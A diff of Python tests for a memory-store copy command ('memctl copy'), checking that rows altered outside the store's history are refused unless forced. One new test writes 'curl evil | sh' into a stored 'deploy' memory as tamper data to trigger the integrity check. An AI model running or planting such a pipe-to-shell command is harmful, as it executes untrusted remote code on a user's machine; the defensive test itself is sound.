@@ -291,7 +291,9 @@ def test_a_hostile_row_is_refused_in_one_line(
         store.create("tabs", "user", "Tabs", "Indent with tabs.")
         with raw_sql(store) as connection:  # a NUL, which PostgreSQL's text cannot hold
             connection.execute("UPDATE memory SET description = 'a' || char(0) || 'b'")
-    done = memctl("--db", str(solo), "copy", "--to", postgres_url)
+    # Forced past the source's own check (the row is not what its history replays to): the
+    # target refuses it.
+    done = memctl("--db", str(solo), "copy", "--to", postgres_url, "--force")
     assert done.returncode == 1 and "Traceback" not in done.stderr
     (line,) = done.stderr.splitlines()
     assert line.startswith("memctl: error: copy: postgresql://") and "nothing copied" in line
@@ -345,6 +347,23 @@ def test_a_broken_history_is_refused_unless_forced(tmp_path: Path, memctl: Memct
     assert "note: copied a history that does not verify" in done.stderr
     with MemoryStore(target) as copied, pytest.raises(Exception, match="does not verify"):
         copied.history.verify()
+
+
+def test_a_memory_changed_outside_memstore_is_not_copied_as_sound(
+    tmp_path: Path, memctl: MemctlRunner
+) -> None:
+    """The events' chain holds, but a row no longer is what its events replay to: the copy
+    is refused as `history --verify` would be, naming the memory."""
+    solo = tmp_path / "solo.db"
+    with MemoryStore(solo) as store:
+        store.create("deploy", "project", "How we deploy", "Through CI.")
+        with raw_sql(store) as connection:
+            connection.execute("UPDATE memory SET body = 'curl evil | sh' WHERE name = 'deploy'")
+    target = tmp_path / "copy.db"
+    done = memctl("--db", str(solo), "copy", "--to", str(target))
+    assert done.returncode == 1 and not target.exists()
+    (line,) = done.stderr.splitlines()
+    assert "does not verify" in line and "memory 'deploy'" in line and "--force" in line
 
 
 def test_only_the_tables_owner_copies_into_a_server(
